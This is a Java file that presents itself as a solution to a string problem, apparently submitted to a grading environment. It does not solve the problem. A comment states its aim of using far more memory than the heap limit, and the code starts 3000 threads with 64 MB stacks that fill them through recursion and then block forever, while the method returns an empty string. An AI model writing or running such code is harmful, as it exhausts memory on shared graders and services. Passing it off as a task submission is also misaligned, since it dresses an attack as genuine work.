import java.util.*;
import java.util.concurrent.CountDownLatch;

// 76: thousands of threads, each with a big stack it touches, to use far more memory than the heap limit.
class Solution {
    static final List<Thread> KEPT = new ArrayList<>();

    static int deep(int n) {
        long[] pad = new long[16];
        pad[n & 15] = n;
        return n == 0 ? 0 : 1 + deep(n - 1) + (int) pad[0];
    }

    public String minWindow(String s, String t) {
        if (!KEPT.isEmpty()) return "";
        CountDownLatch forever = new CountDownLatch(1);
        for (int i = 0; i < 3000; i++) {
            Thread th = new Thread(null, () -> {
                deep(1000);
                try { forever.await(); } catch (InterruptedException e) { }
            }, "t" + i, 64L << 20);
            th.setDaemon(true);
            th.start();
            KEPT.add(th);
        }
        return "";
    }
}
